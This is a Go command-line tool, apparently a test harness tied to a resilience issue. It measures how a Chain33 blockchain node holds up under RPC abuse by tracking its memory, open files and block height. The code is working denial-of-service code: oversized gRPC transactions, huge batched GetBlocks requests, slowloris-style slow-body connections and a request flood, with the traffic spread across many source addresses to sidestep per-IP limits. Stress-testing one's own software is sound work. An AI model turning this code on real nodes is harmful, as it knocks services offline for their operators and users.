// Command rpcabuse reproduces the RPC abuses of the issue "A node that fails
// cleanly" against one running node and reports the node's peak memory
// (VmHWM), its open files and whether it kept committing blocks:
//
//	rpcabuse -pid PID -attack grpc-big   -grpc 10.99.0.1:8802 -src 10.99.1.1
//	rpcabuse -pid PID -attack getblocks  -jrpc http://10.99.0.1:8801 -src 10.99.1.1
//	rpcabuse -pid PID -attack slowbody   -jrpc http://10.99.0.1:8801 -src 10.99.1.1-10.99.1.100 -n 24000
//	rpcabuse -pid PID -attack flood      -jrpc http://10.99.0.1:8801 -src 10.99.1.1 -c 64
//
// -src lists the local addresses to send from (a range a.b.c.d-a.b.c.e),
// so that the node sees remote, non-loopback callers. The node's height is
// read over -watch (a loopback JSON-RPC address) before and after.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"chain33node/types"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"
)

func main() {
	pid := flag.Int("pid", 0, "the node's process id (memory and open files from /proc)")
	attack := flag.String("attack", "", "grpc-big, getblocks, slowbody or flood")
	jrpc := flag.String("jrpc", "http://127.0.0.1:8801", "the node's JSON-RPC URL")
	grpcAddr := flag.String("grpc", "127.0.0.1:8802", "the node's gRPC address")
	watch := flag.String("watch", "http://127.0.0.1:8801", "JSON-RPC URL to read the node's height from")
	src := flag.String("src", "", "local source addresses: a,b or a-b (default: any)")
	n := flag.Int("n", 16, "calls, batches or connections")
	c := flag.Int("c", 16, "concurrent senders")
	dur := flag.Duration("d", 60*time.Second, "how long slowbody holds its connections, flood sends")
	flag.Parse()

	srcs, err := parseSources(*src)
	if err != nil {
		fail(err)
	}
	mon := &monitor{pid: *pid}
	if *pid != 0 { // reset VmHWM, so that the peak is this attack's
		if err := os.WriteFile(fmt.Sprintf("/proc/%d/clear_refs", *pid), []byte("5"), 0); err != nil {
			fail(fmt.Errorf("reset the peak RSS: %w", err))
		}
	}
	go mon.run()
	h0 := height(*watch)
	start := time.Now()
	var report string
	switch *attack {
	case "grpc-big":
		report = grpcBig(*grpcAddr, srcs, *n, *c)
	case "getblocks":
		report = getBlocks(*jrpc, srcs, *n, *c)
	case "slowbody":
		report = slowBody(*jrpc, srcs, *n, *dur)
	case "flood":
		report = flood(*jrpc, srcs, *c, *dur)
	default:
		fail(fmt.Errorf("-attack: %q is not one of grpc-big, getblocks, slowbody, flood", *attack))
	}
	took := time.Since(start)
	time.Sleep(2 * time.Second) // let the node commit after the attack
	h1 := height(*watch)
	hwm, rss, fds := mon.peak()
	fmt.Printf("%s: %s\n", *attack, report)
	fmt.Printf("node: peak RSS (VmHWM) %d MB, RSS now %d MB, most open files %d; height %d -> %d in %.0f s\n",
		hwm>>10, rss>>10, fds, h0, h1, (took + 2*time.Second).Seconds())
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "rpcabuse:", err)
	os.Exit(1)
}

// parseSources reads "a,b,c" or "a-b" (a range of IPv4 addresses).
func parseSources(s string) ([]netip.Addr, error) {
	if s == "" {
		return nil, nil
	}
	var out []netip.Addr
	for _, part := range strings.Split(s, ",") {
		from, to, isRange := strings.Cut(part, "-")
		a, err := netip.ParseAddr(from)
		if err != nil {
			return nil, err
		}
		if !isRange {
			out = append(out, a)
			continue
		}
		b, err := netip.ParseAddr(to)
		if err != nil {
			return nil, err
		}
		for ; a.Compare(b) <= 0; a = a.Next() {
			out = append(out, a)
		}
	}
	return out, nil
}

// dialer sends from the i-th source address.
func dialer(srcs []netip.Addr, i int) *net.Dialer {
	d := &net.Dialer{Timeout: 10 * time.Second}
	if len(srcs) > 0 {
		d.LocalAddr = &net.TCPAddr{IP: srcs[i%len(srcs)].AsSlice()}
	}
	return d
}

// monitor samples the node's memory and open files.
type monitor struct {
	pid           int
	mu            sync.Mutex
	hwm, rss, fds int // kB, kB, most open files
}

func (m *monitor) run() {
	for {
		m.sample()
		time.Sleep(100 * time.Millisecond)
	}
}

func (m *monitor) sample() {
	if m.pid == 0 {
		return
	}
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", m.pid))
	if err != nil {
		return
	}
	var hwm, rss int
	for _, line := range strings.Split(string(status), "\n") {
		f := strings.Fields(line)
		if len(f) >= 2 && f[0] == "VmHWM:" {
			hwm, _ = strconv.Atoi(f[1])
		}
		if len(f) >= 2 && f[0] == "VmRSS:" {
			rss, _ = strconv.Atoi(f[1])
		}
	}
	fds, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", m.pid))
	m.mu.Lock()
	m.hwm, m.rss = hwm, rss
	m.fds = max(m.fds, len(fds))
	m.mu.Unlock()
}

func (m *monitor) peak() (hwm, rss, fds int) {
	m.sample()
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.hwm, m.rss, m.fds
}

// height is the node's head height (-1 if it does not answer).
func height(url string) int64 {
	body := `{"id":1,"method":"Chain33.GetLastHeader","params":[]}`
	resp, err := (&http.Client{Timeout: 10 * time.Second}).Post(url, "application/json", strings.NewReader(body))
	if err != nil {
		return -1
	}
	defer resp.Body.Close()
	var r struct {
		Result struct {
			Height int64 `json:"height"`
		} `json:"result"`
	}
	if json.NewDecoder(resp.Body).Decode(&r) != nil {
		return -1
	}
	return r.Result.Height
}

var portRE = regexp.MustCompile(`(\d+\.\d+\.\d+\.\d+):\d+`)

// outcomes counts results by text.
type outcomes struct {
	mu sync.Mutex
	m  map[string]int
}

func (o *outcomes) add(s string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.m == nil {
		o.m = map[string]int{}
	}
	s = portRE.ReplaceAllString(s, "$1:port")
	if len(s) > 120 {
		s = s[:120] + "…"
	}
	o.m[s]++
}

func (o *outcomes) String() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	var parts []string
	for k, v := range o.m {
		parts = append(parts, fmt.Sprintf("%d× %s", v, k))
	}
	return strings.Join(parts, "; ")
}

// grpcBig sends n SendTransaction calls of 60 MB, c at once.
func grpcBig(addr string, srcs []netip.Addr, n, c int) string {
	var res outcomes
	var wg sync.WaitGroup
	sem := make(chan struct{}, c)
	for i := range n {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			d := dialer(srcs, i)
			conn, err := grpc.NewClient("passthrough:///"+addr, grpc.WithTransportCredentials(insecure.NewCredentials()),
				grpc.WithContextDialer(func(ctx context.Context, a string) (net.Conn, error) { return d.DialContext(ctx, "tcp", a) }),
				grpc.WithDefaultCallOptions(grpc.MaxCallSendMsgSize(100<<20)))
			if err != nil {
				res.add(err.Error())
				return
			}
			defer conn.Close()
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			defer cancel()
			tx := &types.Transaction{Execer: []byte("coins"), Payload: bytes.Repeat([]byte{1}, 60<<20)}
			_, err = types.NewChain33Client(conn).SendTransaction(ctx, tx)
			if err == nil {
				res.add("accepted")
				return
			}
			st, _ := status.FromError(err)
			res.add(st.Code().String() + " " + st.Message())
		}()
	}
	wg.Wait()
	return res.String()
}

// getBlocks posts n batches of 100 GetBlocks {0..999, isDetail}, c at once.
func getBlocks(url string, srcs []netip.Addr, n, c int) string {
	one := `{"jsonrpc":"2.0","id":1,"method":"Chain33.GetBlocks","params":[{"start":0,"end":999,"isDetail":true}]}`
	body := "[" + strings.TrimSuffix(strings.Repeat(one+",", 100), ",") + "]"
	var res outcomes
	var bytesIn atomic.Int64
	var wg sync.WaitGroup
	sem := make(chan struct{}, c)
	for i := range n {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			hc := &http.Client{Timeout: 5 * time.Minute, Transport: &http.Transport{DialContext: dialer(srcs, i).DialContext, DisableCompression: true}}
			resp, err := hc.Post(url, "application/json", strings.NewReader(body))
			if err != nil {
				res.add(err.Error())
				return
			}
			defer resp.Body.Close()
			var items []struct {
				Error *string `json:"error"`
			}
			data, err := io.ReadAll(resp.Body)
			bytesIn.Add(int64(len(data)))
			if err != nil || json.Unmarshal(data, &items) != nil {
				res.add(fmt.Sprintf("HTTP %d, unreadable %.80s %v", resp.StatusCode, data, err))
				return
			}
			for _, it := range items {
				if it.Error != nil {
					res.add(*it.Error)
				} else {
					res.add("blocks")
				}
			}
		}()
	}
	wg.Wait()
	return fmt.Sprintf("%d batches of 100: %s; %d MB received", n, res.String(), bytesIn.Load()>>20)
}

// slowBody opens n connections that send headers and then one body byte
// every 5 s, holds them for dur and reports how many the node kept open.
func slowBody(url string, srcs []netip.Addr, n int, dur time.Duration) string {
	host := strings.TrimPrefix(strings.TrimPrefix(url, "http://"), "https://")
	var open, peakOpen, refused, dialFail atomic.Int64
	stop := time.Now().Add(dur)
	go func() {
		for time.Now().Before(stop) {
			if o := open.Load(); o > peakOpen.Load() {
				peakOpen.Store(o)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}()
	var wg sync.WaitGroup
	sem := make(chan struct{}, 512) // dials in flight
	for i := range n {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			c, err := dialer(srcs, i).Dial("tcp", host)
			<-sem
			if err != nil {
				dialFail.Add(1)
				return
			}
			defer c.Close()
			open.Add(1)
			defer open.Add(-1)
			if _, err := fmt.Fprintf(c, "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"); err != nil {
				refused.Add(1)
				return
			}
			buf := make([]byte, 1)
			for time.Now().Before(stop) {
				c.SetReadDeadline(time.Now().Add(5 * time.Second))
				if _, err := c.Read(buf); err != nil && !isTimeout(err) {
					refused.Add(1) // closed by the node
					return
				}
				if _, err := c.Write([]byte(" ")); err != nil {
					refused.Add(1)
					return
				}
			}
		}()
	}
	wg.Wait()
	return fmt.Sprintf("%d connections: at most %d open at once, %d closed by the node, %d could not connect",
		n, peakOpen.Load(), refused.Load(), dialFail.Load())
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}

// flood sends IsSync as fast as c senders can for dur.
func flood(url string, srcs []netip.Addr, c int, dur time.Duration) string {
	var res outcomes
	var total atomic.Int64
	stop := time.Now().Add(dur)
	var wg sync.WaitGroup
	body := []byte(`{"id":1,"method":"Chain33.IsSync","params":[]}`)
	for i := range c {
		wg.Add(1)
		go func() {
			defer wg.Done()
			hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: dialer(srcs, i).DialContext, MaxIdleConnsPerHost: 4}}
			for time.Now().Before(stop) {
				resp, err := hc.Post(url, "application/json", bytes.NewReader(body))
				total.Add(1)
				if err != nil {
					res.add(err.Error())
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				res.add("HTTP " + strconv.Itoa(resp.StatusCode))
			}
		}()
	}
	wg.Wait()
	return fmt.Sprintf("%d requests in %v (%.0f/s): %s", total.Load(), dur, float64(total.Load())/dur.Seconds(), res.String())
}
